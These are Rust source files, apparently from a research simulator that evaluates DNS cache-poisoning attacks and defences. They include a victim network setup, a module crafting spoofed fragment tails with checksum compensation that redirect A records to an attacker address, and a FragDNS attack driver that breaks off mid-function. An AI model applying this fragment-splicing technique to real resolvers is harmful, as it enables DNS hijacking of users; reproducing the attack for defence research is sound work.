    /// relevant paths (copied from [`VictimEnvConfig::rov_enforced`]).
    pub rov_enforced: bool,
    /// Multi-vantage-point validation quorum for any certificate authority
    /// hosted in this environment (copied from
    /// [`VictimEnvConfig::vantage_quorum`]).
    pub vantage_quorum: Option<u8>,
}

/// How the target zone deploys DNSSEC — the knob the DNSSEC-flavoured
/// defences and attack rows vary.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ZoneSecurity {
    /// Plain unsigned zone (the baseline).
    Unsigned,
    /// Zone signed through the [`dns::dnssec`] pipeline with this profile.
    Signed(SignedZoneProfile),
}

/// The deployment shape of a signed zone.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SignedZoneProfile {
    /// Denial-of-existence flavour (NSEC, or NSEC3 with/without opt-out).
    pub denial: dns::dnssec::DenialConfig,
    /// Whether the DS record made it into the parent: when true the
    /// resolver holds the zone's trust anchor; when false the zone is
    /// signed but unanchored, so validation degrades to `Insecure` — the
    /// downgrade-to-insecure attack surface.
    pub publish_ds: bool,
    /// RFC 6781 rollover strictness: when true, retired ZSKs leave the
    /// DNSKEY RRset immediately, closing the rollover-forgery window.
    pub strict_rollover: bool,
}

impl ZoneSecurity {
    /// The classic `Dnssec` defence: NSEC denial, DS published, lenient
    /// rollover.
    pub fn signed_nsec() -> Self {
        ZoneSecurity::Signed(SignedZoneProfile {
            denial: dns::dnssec::DenialConfig::Nsec,
            publish_ds: true,
            strict_rollover: false,
        })
    }

    /// Signed but with no DS in the parent: validators have no chain of
    /// trust and accept the zone as `Insecure`.
    pub fn signed_no_ds() -> Self {
        ZoneSecurity::Signed(SignedZoneProfile {
            denial: dns::dnssec::DenialConfig::Nsec,
            publish_ds: false,
            strict_rollover: false,
        })
    }

    /// NSEC3 with opt-out spans and a published DS: zone walking is
    /// blunted, but opt-out spans admit unsigned data as `Insecure`.
    pub fn signed_nsec3_opt_out() -> Self {
        ZoneSecurity::Signed(SignedZoneProfile {
            denial: dns::dnssec::DenialConfig::Nsec3(dns::dnssec::Nsec3Params::standard(true)),
            publish_ds: true,
            strict_rollover: false,
        })
    }

    /// The hardened profile: NSEC3 without opt-out, DS published, strict
    /// rollover.
    pub fn signed_strict() -> Self {
        ZoneSecurity::Signed(SignedZoneProfile {
            denial: dns::dnssec::DenialConfig::Nsec3(dns::dnssec::Nsec3Params::standard(false)),
            publish_ds: true,
            strict_rollover: true,
        })
    }

    /// Whether the zone is signed at all.
    pub fn is_signed(&self) -> bool {
        matches!(self, ZoneSecurity::Signed(_))
    }
}

/// Salt mixed into the environment seed to derive the zone's key material,
/// so signing keys are deterministic per environment but uncorrelated with
/// the simulator's packet-level randomness.
const ZONE_KEY_SALT: u64 = 0xd5ec_0bad_c0de_5a17;

/// Tunable properties of the standard environment.
#[derive(Debug, Clone)]
pub struct VictimEnvConfig {
    /// RNG seed for the simulator.
    pub seed: u64,
    /// Resolver configuration overrides.
    pub resolver: ResolverConfig,
    /// Nameserver configuration overrides.
    pub nameserver: NameserverConfig,
    /// Latency between resolver and nameserver (the race window).
    pub resolver_ns_latency: Duration,
    /// Latency between attacker and resolver.
    pub attacker_latency: Duration,
    /// DNSSEC deployment of the target zone.
    pub zone_security: ZoneSecurity,
    /// Whether route-origin validation is enforced on the paths that matter:
    /// hijacked announcements are filtered in the control plane, so
    /// interception-based vectors fail their precondition. Set by the
    /// `RouteOriginValidation` defence.
    pub rov_enforced: bool,
    /// Multi-vantage-point domain-validation quorum of any certificate
    /// authority hosted in this environment (the Let's Encrypt-style
    /// countermeasure): `Some(q)` means the CA corroborates every challenge
    /// from vantage resolvers at distinct ASes and requires at least `q` of
    /// them to agree with its primary validation before issuing. `None`
    /// (default) validates from the primary resolver alone. Set by the
    /// `MultiVantageValidation` defence; the resolver itself is unaffected —
    /// the `ca` crate consumes this when it builds the issuance pipeline.
    pub vantage_quorum: Option<u8>,
}

/// Well-known addresses of the standard environment (mirroring Figure 1/2).
pub mod addrs {
    use std::net::Ipv4Addr;
    /// The victim resolver (`30.0.0.1` in the paper's figures).
    pub const RESOLVER: Ipv4Addr = Ipv4Addr::new(30, 0, 0, 1);
    /// The victim-side client/service (`30.0.0.25`).
    pub const CLIENT: Ipv4Addr = Ipv4Addr::new(30, 0, 0, 25);
    /// The genuine service address records point at.
    pub const SERVICE: Ipv4Addr = Ipv4Addr::new(30, 0, 0, 80);
    /// The target domain's nameserver (`123.0.0.53`).
    pub const NAMESERVER: Ipv4Addr = Ipv4Addr::new(123, 0, 0, 53);
    /// The attacker (`6.6.6.6`).
    pub const ATTACKER: Ipv4Addr = Ipv4Addr::new(6, 6, 6, 6);
}

impl Default for VictimEnvConfig {
    fn default() -> Self {
        VictimEnvConfig {
            seed: 7,
            resolver: ResolverConfig::new(addrs::RESOLVER).with_delegation("vict.im", vec![addrs::NAMESERVER], false),
            nameserver: NameserverConfig::new(addrs::NAMESERVER),
            resolver_ns_latency: Duration::from_millis(20),
            attacker_latency: Duration::from_millis(5),
            zone_security: ZoneSecurity::Unsigned,
            rov_enforced: false,
            vantage_quorum: None,
        }
    }
}

/// Builds the standard unsigned victim zone for `vict.im` — the
/// seed-independent half of [`VictimEnvConfig::victim_zone`], shared with
/// [`EnvTemplate`] so grid campaigns construct the record set once per cell
/// instead of once per seed.
fn unsigned_victim_zone() -> Zone {
    let mut zone = Zone::new("vict.im".parse().expect("valid name"));
    zone.add_ns("ns1.vict.im", addrs::NAMESERVER);
    zone.add_a("vict.im", addrs::SERVICE);
    zone.add_a("www.vict.im", addrs::SERVICE);
    zone.add_a("login.vict.im", addrs::SERVICE);
    zone.add_mx(10, "mail.vict.im", Ipv4Addr::new(30, 0, 0, 26));
    zone.add_txt("vict.im", "v=spf1 ip4:30.0.0.0/22 include:_spf.mailhoster.example include:_spf.crm.example -all");
    // Realistic apex TXT clutter (site verifications, key material): this
    // is what pushes ANY responses past common fragmentation thresholds.
    zone.add_txt(
        "vict.im",
        "google-site-verification=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    );
    zone.add_txt("vict.im", "ms-domain-verification=fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210");
    zone.add_txt(
        "vict.im",
        "apple-domain-verification=A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F90",
    );
    zone.add_txt("_dmarc.vict.im", "v=DMARC1; p=reject");
    zone.add_txt(
        "sel._domainkey.vict.im",
        "v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA0123456789abcdef0123456789abcdef",
    );
    zone.add_srv("_xmpp-server._tcp.vict.im", 5269, "xmpp.vict.im", Ipv4Addr::new(30, 0, 0, 27));
    zone.add_naptr("aaa+auth:radius.tls.tcp", "_radiustls._tcp.vict.im");
    zone.add_ipseckey("vpn.vict.im", Ipv4Addr::new(30, 0, 0, 99));
    zone.add_a("ntp.vict.im", Ipv4Addr::new(30, 0, 0, 123));
    zone.add_a("rpki.vict.im", Ipv4Addr::new(30, 0, 0, 124));
    zone
}

impl VictimEnvConfig {
    /// Builds the standard victim zone for `vict.im`, rich enough that `ANY`
    /// responses exceed common fragmentation thresholds.
    pub fn victim_zone(&self) -> Zone {
        self.finish_zone(unsigned_victim_zone())
    }

    /// Applies this configuration's DNSSEC deployment to an unsigned zone:
    /// the seed-dependent half of zone construction (signing keys derive
    /// from the environment seed).
    fn finish_zone(&self, zone: Zone) -> Zone {
        match &self.zone_security {
            ZoneSecurity::Unsigned => zone,
            ZoneSecurity::Signed(profile) => {
                let policy = SigningPolicy {
                    denial: profile.denial.clone(),
                    retire_immediately: profile.strict_rollover,
                    ..SigningPolicy::default()
                };
                zone.sign(self.zone_keys(), policy, SimTime::ZERO)
            }
        }
    }

    /// The deterministic key inventory of the target zone, a pure function
    /// of the environment seed.
    pub fn zone_keys(&self) -> KeyManager {
        KeyManager::new(self.seed ^ ZONE_KEY_SALT)
    }

    /// Constructs the simulator and environment.
    pub fn build(self) -> (Simulator, VictimEnv) {
        let zone = self.victim_zone();
        self.build_with_zone(zone)
    }

    /// Constructs the simulator and environment around an already-finished
    /// zone — the seed-dependent tail of [`build`](Self::build), shared with
    /// [`EnvTemplate::build_at`].
    fn build_with_zone(self, zone: Zone) -> (Simulator, VictimEnv) {
        let mut sim = Simulator::new(self.seed);
        let resolver_edns_size = self.resolver.edns_size;
        // An anchored signed zone hands its DS record to the resolver, like
        // a DS in the parent zone would.
        let mut resolver_cfg = self.resolver.clone();
        if let ZoneSecurity::Signed(profile) = &self.zone_security {
            if profile.publish_ds {
                if let Some(anchor) = zone.trust_anchor() {
                    resolver_cfg = resolver_cfg.with_trust_anchor("vict.im", anchor);
                }
            }
        }
        let resolver = sim.add_node("resolver", vec![addrs::RESOLVER], Resolver::new(resolver_cfg));
        let nameserver =
            sim.add_node("ns", vec![addrs::NAMESERVER], Nameserver::new(self.nameserver.clone(), vec![zone]));
        let attacker = sim.add_node("attacker", vec![addrs::ATTACKER], AttackerNode::new(addrs::ATTACKER));
        let client = sim.add_node("client", vec![addrs::CLIENT, addrs::SERVICE], SinkNode::default());

        sim.connect(resolver, nameserver, Link::with_latency(self.resolver_ns_latency));
        sim.connect(attacker, resolver, Link::with_latency(self.attacker_latency));
        sim.connect(attacker, nameserver, Link::with_latency(self.attacker_latency));
        sim.connect(client, resolver, Link::with_latency(Duration::from_millis(1)));

        let env = VictimEnv {
            resolver,
            resolver_addr: addrs::RESOLVER,
            nameserver,
            nameserver_addr: addrs::NAMESERVER,
            nameserver_prefix: "123.0.0.0/22".parse().expect("valid prefix"),
            resolver_prefix: "30.0.0.0/22".parse().expect("valid prefix"),
            attacker,
            attacker_addr: addrs::ATTACKER,
            client,
            client_addr: addrs::CLIENT,
            target_name: "vict.im".parse().expect("valid name"),
            resolver_edns_size,
            rov_enforced: self.rov_enforced,
            vantage_quorum: self.vantage_quorum,
        };
        (sim, env)
    }
}

/// A reusable snapshot of a fully-prepared environment configuration.
///
/// Grid campaigns evaluate many independently-seeded runs of the *same*
/// (vector × defence) cell. Everything about the cell except the seed —
/// the vector's `prepare_env` adjustments, the applied defences, and the
/// unsigned victim zone's record set — is identical across those runs, so a
/// template captures it once and [`build_at`](Self::build_at) stamps out a
/// per-seed simulator from it. Only the seed-dependent work (zone signing,
/// simulator RNG) runs per seed, which keeps `build_at(s)` byte-identical
/// to `VictimEnvConfig { seed: s, .. }.build()` on the same configuration.
#[derive(Debug, Clone)]
pub struct EnvTemplate {
    cfg: VictimEnvConfig,
    unsigned_zone: Zone,
}

impl EnvTemplate {
    /// Snapshots a prepared configuration (the template's seed field is
    /// carried along but superseded by every `build_at` call).
    pub fn new(cfg: VictimEnvConfig) -> Self {
        EnvTemplate { cfg, unsigned_zone: unsigned_victim_zone() }
    }

    /// The captured configuration.
    pub fn config(&self) -> &VictimEnvConfig {
        &self.cfg
    }

    /// Builds the simulator and environment for one seed. Equivalent to
    /// `cfg.build()` with `cfg.seed = seed`, without re-deriving the
    /// seed-independent parts.
    pub fn build_at(&self, seed: u64) -> (Simulator, VictimEnv) {
        let mut cfg = self.cfg.clone();
        cfg.seed = seed;
        let zone = cfg.finish_zone(self.unsigned_zone.clone());
        cfg.build_with_zone(zone)
    }
}

/// How the attacker causes the victim resolver to emit the query it wants to
/// poison (Section 4.3).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum QueryTrigger {
    /// The resolver is an open resolver (or reachable forwarder): the
    /// attacker queries it directly.
    OpenResolver,
    /// A benign client/service inside the victim network performs the lookup
    /// (e.g. an email bounce, a fetched web object, an appliance timer).
    InternalClient,
}

impl VictimEnv {
    /// Injects a query for `(name, qtype)` at the victim resolver using the
    /// given trigger path, and returns the TXID used by the triggering party.
    pub fn trigger_query(
        &self,
        sim: &mut Simulator,
        trigger: QueryTrigger,
        name: &DomainName,
        qtype: RecordType,
        txid: u16,
    ) {
        let (from_node, from_addr, from_port) = match trigger {
            QueryTrigger::OpenResolver => (self.attacker, self.attacker_addr, 4444),
            QueryTrigger::InternalClient => (self.client, self.client_addr, well_known_ports::STUB_CLIENT),
        };
        let query = Message::query(txid, name.clone(), qtype);
        let pkt = UdpDatagram::new(from_addr, self.resolver_addr, from_port, well_known_ports::DNS, query.encode())
            .into_packet(txid, 64);
        sim.inject(from_node, pkt);
    }

    /// Whether the resolver's cache currently maps `name` to the attacker's
    /// chosen address.
    pub fn poisoned(&self, sim: &Simulator, name: &DomainName, addr: Ipv4Addr) -> bool {
        sim.node_ref::<Resolver>(self.resolver).map(|r| r.is_poisoned_with(name, addr, sim.now())).unwrap_or(false)
    }

    /// Convenience accessor for the resolver node.
    pub fn resolver<'a>(&self, sim: &'a Simulator) -> &'a Resolver {
        sim.node_ref::<Resolver>(self.resolver).expect("resolver node")
    }

    /// Convenience accessor for the nameserver node.
    pub fn nameserver<'a>(&self, sim: &'a Simulator) -> &'a Nameserver {
        sim.node_ref::<Nameserver>(self.nameserver).expect("nameserver node")
    }

    /// Convenience accessor for the attacker node.
    pub fn attacker<'a>(&self, sim: &'a Simulator) -> &'a AttackerNode {
        sim.node_ref::<AttackerNode>(self.attacker).expect("attacker node")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn standard_environment_resolves_normally() {
        let (mut sim, env) = VictimEnvConfig::default().build();
        env.trigger_query(&mut sim, QueryTrigger::OpenResolver, &"www.vict.im".parse().unwrap(), RecordType::A, 9);
        sim.run();
        let resolver = env.resolver(&sim);
        assert_eq!(resolver.stats.responses_accepted, 1);
        assert_eq!(resolver.cache().cached_a(&"www.vict.im".parse().unwrap(), sim.now()), Some(addrs::SERVICE));
        // The attacker (acting as an open-resolver client) got the answer.
        assert!(env.attacker(&sim).received_responses().len() == 1);
    }

    #[test]
    fn internal_client_trigger_works_too() {
        let (mut sim, env) = VictimEnvConfig::default().build();
        env.trigger_query(&mut sim, QueryTrigger::InternalClient, &"vict.im".parse().unwrap(), RecordType::TXT, 3);
        sim.run();
        assert_eq!(env.resolver(&sim).stats.client_queries, 1);
        assert!(sim.stats(env.client).udp_received >= 1);
    }

    #[test]
    fn zone_any_response_is_large_enough_to_fragment() {
        let cfg = VictimEnvConfig::default();
        let zone = cfg.victim_zone();
        match zone.lookup(&"vict.im".parse().unwrap(), RecordType::ANY) {
            dns::zone::LookupResult::Records(rrs) => {
                let mut msg = Message::query(1, "vict.im".parse().unwrap(), RecordType::ANY);
                msg.header.is_response = true;
                msg.answers = rrs;
                assert!(msg.wire_size() > 548, "ANY response must exceed the common fragmentation threshold");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn environment_not_poisoned_initially() {
        let (sim, env) = VictimEnvConfig::default().build();
        assert!(!env.poisoned(&sim, &env.target_name, env.attacker_addr));
    }
}
