//! Packet-surgery helpers for the FragDNS attacker.
//!
//! FragDNS replaces the *tail* fragments of a genuine DNS response with
//! attacker-crafted bytes. Three constraints make this fiddly and are handled
//! here exactly as a real exploit would:
//!
//! 1. the malicious tail must decode as valid resource records in the
//!    positions the genuine records occupied (we perform surgical in-place
//!    edits of A-record RDATA rather than re-encoding the message);
//! 2. the **UDP checksum** — computed by the nameserver over the *genuine*
//!    payload and carried in the first (unmodified) fragment — must still
//!    verify over the spliced datagram, so the 16-bit one's-complement sum of
//!    the malicious tail must equal that of the genuine tail; we compensate
//!    by adjusting the low 16 bits of a TTL field that lies inside the tail;
//! 3. the fragment boundaries must match the ones the nameserver will use for
//!    the path MTU the attacker forced via ICMP.

use dns::name::DomainName;
use dns::rdata::RecordType;
use netsim::checksum::Checksum;
use netsim::ipv4::IPV4_HEADER_LEN;
use netsim::udp::UDP_HEADER_LEN;
use std::net::Ipv4Addr;

/// Location of one resource record inside an encoded DNS message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RecordSpan {
    /// The record's owner name.
    pub owner: DomainName,
    /// Byte offset of the owner name.
    pub name_offset: usize,
    /// Byte offset of the TYPE field.
    pub type_offset: usize,
    /// Byte offset of the TTL field.
    pub ttl_offset: usize,
    /// Byte offset of the RDATA.
    pub rdata_offset: usize,
    /// RDATA length.
    pub rdlength: usize,
    /// The record type.
    pub rtype: RecordType,
}

/// Walks an encoded DNS message and returns the byte spans of every record in
/// the answer, authority and additional sections.
pub fn record_spans(msg: &[u8]) -> Option<Vec<RecordSpan>> {
    if msg.len() < 12 {
        return None;
    }
    let qdcount = u16::from_be_bytes([msg[4], msg[5]]) as usize;
    let total_records = u16::from_be_bytes([msg[6], msg[7]]) as usize
        + u16::from_be_bytes([msg[8], msg[9]]) as usize
        + u16::from_be_bytes([msg[10], msg[11]]) as usize;
    let mut pos = 12;
    for _ in 0..qdcount {
        let (_, next) = DomainName::decode(msg, pos).ok()?;
        pos = next + 4;
    }
    let mut spans = Vec::with_capacity(total_records);
    for _ in 0..total_records {
        let name_offset = pos;
        let (owner, after_name) = DomainName::decode(msg, pos).ok()?;
        if msg.len() < after_name + 10 {
            return None;
        }
        let rtype = RecordType::from_number(u16::from_be_bytes([msg[after_name], msg[after_name + 1]]));
        let ttl_offset = after_name + 4;
        let rdlength = u16::from_be_bytes([msg[after_name + 8], msg[after_name + 9]]) as usize;
        let rdata_offset = after_name + 10;
        if msg.len() < rdata_offset + rdlength {
            return None;
        }
        spans.push(RecordSpan {
            owner,
            name_offset,
            type_offset: after_name,
            ttl_offset,
            rdata_offset,
            rdlength,
            rtype,
        });
        pos = rdata_offset + rdlength;
    }
    Some(spans)
}

/// The 16-bit one's-complement folded sum of a byte slice (word-aligned).
pub fn folded_sum(data: &[u8]) -> u16 {
    let mut c = Checksum::new();
    c.add_bytes(data);
    c.folded()
}

/// How the nameserver will fragment a UDP datagram of `udp_payload_len`
/// (UDP header + DNS payload) for a path MTU of `mtu`: returns the byte
/// ranges (within the IP payload) of each fragment.
pub fn fragment_layout(udp_payload_len: usize, mtu: u16) -> Vec<(usize, usize)> {
    let chunk = (usize::from(mtu) - IPV4_HEADER_LEN) & !7;
    assert!(chunk >= 8, "MTU too small");
    let mut out = Vec::new();
    let mut offset = 0;
    while offset < udp_payload_len {
        let end = (offset + chunk).min(udp_payload_len);
        out.push((offset, end));
        offset = end;
    }
    out
}

/// Result of crafting a malicious tail.
#[derive(Debug, Clone)]
pub struct CraftedTail {
    /// The malicious bytes replacing the genuine IP-payload tail
    /// (everything after the first fragment).
    pub bytes: Vec<u8>,
    /// Offset of the tail within the IP payload (== length of fragment 1's payload).
    pub tail_offset: usize,
    /// How many A records were redirected.
    pub records_redirected: usize,
    /// Owner names of the redirected A records.
    pub redirected_names: Vec<DomainName>,
    /// Whether the UDP checksum could be compensated exactly.
    pub checksum_compensated: bool,
}

/// Crafts the malicious tail for a FragDNS attack.
///
/// * `dns_bytes` — the genuine DNS response payload the attacker learned via
///   reconnaissance (TXID differences live in the first fragment and do not
///   matter here);
/// * `mtu` — the path MTU the attacker forced on the nameserver;
/// * `malicious_addr` — the address to substitute into every A record whose
///   RDATA lies entirely within the tail.
///
/// Returns `None` when the response would not fragment at this MTU or when no
/// A record falls in the tail (nothing to redirect).
pub fn craft_malicious_tail(dns_bytes: &[u8], mtu: u16, malicious_addr: Ipv4Addr) -> Option<CraftedTail> {
    let udp_payload_len = UDP_HEADER_LEN + dns_bytes.len();
    let layout = fragment_layout(udp_payload_len, mtu);
    if layout.len() < 2 {
        return None;
    }
    // End of fragment 1 within the IP payload.
    let tail_offset = layout[0].1;
    // Position of the tail within the DNS message bytes.
    let dns_tail_start = tail_offset - UDP_HEADER_LEN;

    let spans = record_spans(dns_bytes)?;
    let genuine_tail = &dns_bytes[dns_tail_start..];

    let mut malicious = dns_bytes.to_vec();
    let mut redirected = 0;
    let mut redirected_names = Vec::new();
    for span in &spans {
        if span.rtype == RecordType::A && span.rdlength == 4 && span.rdata_offset >= dns_tail_start {
            malicious[span.rdata_offset..span.rdata_offset + 4].copy_from_slice(&malicious_addr.octets());
            redirected += 1;
            redirected_names.push(span.owner.clone());
        }
    }
    if redirected == 0 {
        return None;
    }

    // Checksum compensation: find a 16-bit word we may freely adjust — the
    // low half of a TTL field lying entirely within the tail (TTL changes do
    // not affect whether the forgery is accepted; they only alter how long it
    // is cached). Prefer a record we already modified.
    let target_sum = folded_sum(genuine_tail);
    let comp_offset = spans
        .iter()
        .filter(|s| s.ttl_offset + 4 <= dns_bytes.len() && s.ttl_offset + 2 >= dns_tail_start)
        .map(|s| s.ttl_offset + 2)
        .next_back();
    let mut compensated = false;
    if let Some(abs_off) = comp_offset {
        // Brute-force the 16-bit compensation word (cheap and exact, no
        // one's-complement corner cases).
        let rel = abs_off - dns_tail_start;
        let mut tail = malicious[dns_tail_start..].to_vec();
        for candidate in 0..=u16::MAX {
            tail[rel..rel + 2].copy_from_slice(&candidate.to_be_bytes());
            if folded_sum(&tail) == target_sum {
                malicious[abs_off..abs_off + 2].copy_from_slice(&candidate.to_be_bytes());
                compensated = true;
                break;
            }
        }
    }

    Some(CraftedTail {
        bytes: malicious[dns_tail_start..].to_vec(),
        tail_offset,
        records_redirected: redirected,
        redirected_names,
        checksum_compensated: compensated,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use dns::prelude::*;

    fn big_response() -> Message {
        let q = Message::query(0x4242, "vict.im".parse().unwrap(), RecordType::ANY);
        let mut r = Message::response_for(&q);
        r.header.authoritative = true;
        let name: DomainName = "vict.im".parse().unwrap();
        r.answers.push(ResourceRecord::new(name.clone(), 300, RData::Txt("v=spf1 ip4:30.0.0.0/22 -all".into())));
        r.answers.push(ResourceRecord::new(name.clone(), 300, RData::Txt("padding-".repeat(60))));
        r.answers.push(ResourceRecord::new(
            name.clone(),
            300,
            RData::Mx { preference: 10, exchange: "mail.vict.im".parse().unwrap() },
        ));
        r.answers.push(ResourceRecord::new(name.clone(), 300, RData::A("30.0.0.80".parse().unwrap())));
        r.answers.push(ResourceRecord::new(
            "www.vict.im".parse().unwrap(),
            300,
            RData::A("30.0.0.80".parse().unwrap()),
        ));
        r.authorities.push(ResourceRecord::new(name, 300, RData::Ns("ns1.vict.im".parse().unwrap())));
        r
    }

    #[test]
    fn record_spans_cover_all_sections() {
        let r = big_response();
        let bytes = r.encode();
        let spans = record_spans(&bytes).unwrap();
        assert_eq!(spans.len(), r.answers.len() + r.authorities.len());
        // Spans must be in increasing, non-overlapping order.
        for w in spans.windows(2) {
            assert!(w[0].rdata_offset + w[0].rdlength <= w[1].name_offset);
        }
        // A-record spans have 4-byte RDATA.
        for s in spans.iter().filter(|s| s.rtype == RecordType::A) {
            assert_eq!(s.rdlength, 4);
        }
    }

    #[test]
    fn fragment_layout_is_8_byte_aligned() {
        let layout = fragment_layout(1300, 548);
        assert!(layout.len() >= 2);
        assert_eq!(layout[0].0, 0);
        for (start, _) in &layout {
            assert_eq!(start % 8, 0);
        }
        assert_eq!(layout.last().unwrap().1, 1300);
    }

    #[test]
    fn small_payload_single_fragment() {
        assert_eq!(fragment_layout(100, 548).len(), 1);
        let r = Message::query(1, "vict.im".parse().unwrap(), RecordType::A);
        assert!(craft_malicious_tail(&r.encode(), 548, "6.6.6.6".parse().unwrap()).is_none());
    }

    #[test]
    fn crafted_tail_redirects_and_preserves_checksum_sum() {
        let response = big_response();
        let bytes = response.encode();
        let attacker: Ipv4Addr = "6.6.6.6".parse().unwrap();
        let crafted = craft_malicious_tail(&bytes, 548, attacker).expect("response fragments at 548");
        assert!(crafted.records_redirected >= 1);
        assert!(crafted.checksum_compensated, "a TTL word in the tail can absorb the delta");
        // Sum equality with the genuine tail.
        let dns_tail_start = crafted.tail_offset - UDP_HEADER_LEN;
        let genuine_tail = &bytes[dns_tail_start..];
        assert_eq!(folded_sum(&crafted.bytes), folded_sum(genuine_tail));
        assert_eq!(crafted.bytes.len(), genuine_tail.len());
        // Splicing genuine head + malicious tail still decodes and now points
        // at the attacker.
        let mut spliced = bytes[..dns_tail_start].to_vec();
        spliced.extend_from_slice(&crafted.bytes);
        let msg = Message::decode(&spliced).expect("spliced message still parses");
        let redirected = msg.answers.iter().filter(|r| r.rdata.as_ipv4() == Some(attacker)).count();
        assert!(redirected >= 1, "at least one A record now points at the attacker");
    }

    #[test]
    fn splice_passes_udp_checksum_end_to_end() {
        // Full wire-level check: the nameserver computes the UDP checksum
        // over the genuine payload; after replacing the tail fragments with
        // the crafted ones, the reassembled datagram must still verify.
        use netsim::prelude::*;
        let response = big_response();
        let dns_bytes = response.encode();
        let ns: Ipv4Addr = "123.0.0.53".parse().unwrap();
        let resolver: Ipv4Addr = "30.0.0.1".parse().unwrap();
        let genuine = UdpDatagram::new(ns, resolver, 53, 34567, dns_bytes.clone()).into_packet(0x77, 64);
        let frags = netsim::frag::fragment_packet(&genuine, 548);
        assert!(frags.len() >= 2);

        let crafted = craft_malicious_tail(&dns_bytes, 548, "6.6.6.6".parse().unwrap()).unwrap();
        // Rebuild the IP payload: fragment 1 unchanged + malicious tail.
        let mut payload = frags[0].payload.clone();
        payload.extend_from_slice(&crafted.bytes);
        let mut header = frags[0].header;
        header.more_fragments = false;
        let reassembled = Ipv4Packet::new(header, payload);
        let dgram = UdpDatagram::from_packet(&reassembled).expect("UDP checksum must verify after splicing");
        let msg = Message::decode(&dgram.payload).unwrap();
        assert!(msg.answers.iter().any(|r| r.rdata.as_ipv4() == Some("6.6.6.6".parse().unwrap())));
    }

    #[test]
    fn checksum_compensation_required_for_acceptance() {
        // Without compensation the checksum (almost certainly) breaks: verify
        // that naive substitution alone would have failed, demonstrating why
        // the compensation word matters.
        let response = big_response();
        let dns_bytes = response.encode();
        let layout = fragment_layout(UDP_HEADER_LEN + dns_bytes.len(), 548);
        let dns_tail_start = layout[0].1 - UDP_HEADER_LEN;
        let genuine_tail = &dns_bytes[dns_tail_start..];
        let mut naive = genuine_tail.to_vec();
        // Replace the last 4 bytes of an A record without compensation.
        let spans = record_spans(&dns_bytes).unwrap();
        let a = spans.iter().find(|s| s.rtype == RecordType::A && s.rdata_offset >= dns_tail_start).unwrap();
        let rel = a.rdata_offset - dns_tail_start;
        naive[rel..rel + 4].copy_from_slice(&Ipv4Addr::new(6, 6, 6, 6).octets());
        assert_ne!(folded_sum(&naive), folded_sum(genuine_tail), "naive substitution changes the sum");
    }
}
