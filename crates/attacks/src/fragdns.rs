//! FragDNS — cache poisoning via IPv4 fragmentation (Section 3.3, after
//! Herzberg & Shulman 2013).
//!
//! The attacker never has to guess the UDP source port or the TXID: both live
//! in the *first* fragment of the nameserver's response, which is left
//! untouched. Instead the attacker
//!
//! 1. performs **reconnaissance**: it queries the nameserver itself to learn
//!    the exact response bytes and to sample the server's IP-ID counter;
//! 2. spoofs an **ICMP fragmentation-needed** message so the nameserver
//!    lowers its path MTU towards the victim resolver and starts fragmenting;
//! 3. **plants spoofed second fragments** (one per guessed IP-ID) in the
//!    resolver's defragmentation cache, carrying redirected A records and a
//!    checksum-compensation word so the reassembled datagram still verifies;
//! 4. **triggers** the query; the genuine first fragment reassembles with the
//!    attacker's tail and the poisoned records enter the cache.

use crate::craft::{craft_malicious_tail, fragment_layout};
use crate::env::{QueryTrigger, VictimEnv};
use crate::outcome::{AttackReport, FailureReason, PoisonMethod};
use dns::prelude::*;
use netsim::ipv4::{Ipv4Header, Protocol};
use netsim::prelude::*;
use netsim::udp::UDP_HEADER_LEN;
use std::net::Ipv4Addr;

/// Configuration for a FragDNS attack run.
#[derive(Debug, Clone)]
pub struct FragDnsConfig {
    /// Address to plant.
    pub malicious_addr: Ipv4Addr,
    /// The domain whose records are attacked (query name).
    pub target_name: DomainName,
    /// Query type to trigger — `ANY` maximises the response size.
    pub qtype: RecordType,
    /// How the query is triggered.
    pub trigger: QueryTrigger,
    /// The path MTU the attacker advertises to the nameserver.
    pub forced_mtu: u16,
    /// How many consecutive IP-ID values to plant fragments for (bounded by
    /// the resolver's 64-entry defragmentation cache).
    pub ipid_candidates: u16,
    /// Maximum trigger iterations.
    pub max_iterations: u32,
}

impl FragDnsConfig {
    /// Default configuration: `ANY vict.im`, forcing a 548-byte MTU.
    pub fn new(malicious_addr: Ipv4Addr) -> Self {
        FragDnsConfig {
            malicious_addr,
            target_name: "vict.im".parse().expect("valid name"),
            qtype: RecordType::ANY,
            trigger: QueryTrigger::OpenResolver,
            forced_mtu: 548,
            ipid_candidates: 8,
            max_iterations: 2,
        }
    }
}

/// The FragDNS attack driver.
#[derive(Debug, Clone)]
pub struct FragDnsAttack {
    /// Attack configuration.
    pub config: FragDnsConfig,
}

impl FragDnsAttack {
    /// Creates a driver.
    pub fn new(config: FragDnsConfig) -> Self {
        FragDnsAttack { config }
    }

    /// Reconnaissance: query the nameserver directly and return the DNS
    /// response bytes plus the IP identification the response carried.
    fn reconnaissance(&self, sim: &mut Simulator, env: &VictimEnv) -> Option<(Vec<u8>, u16)> {
        let cfg = &self.config;
        let before = env.attacker(sim).udp_observed.len();
        let q = Message::query(0x0BAD, cfg.target_name.clone(), cfg.qtype).with_edns(4096);
        let pkt =
            UdpDatagram::new(env.attacker_addr, env.nameserver_addr, 4444, 53, q.encode()).into_packet(0x0BAD, 64);
        sim.inject(env.attacker, pkt);
        sim.run_for(Duration::from_millis(200));
        let attacker = env.attacker(sim);
        let obs = attacker.udp_observed[before..]
            .iter()
            .find(|o| o.datagram.src == env.nameserver_addr && o.datagram.src_port == 53)?;
        Some((obs.datagram.payload.clone(), obs.ip_identification))
    }

    /// Sends the spoofed ICMP fragmentation-needed message to the nameserver,
    /// quoting a plausible response packet towards the resolver.
    fn shrink_path_mtu(&self, sim: &mut Simulator, env: &VictimEnv) {
        let quoted =
            UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, 34567, vec![0u8; 64]).into_packet(1, 64);
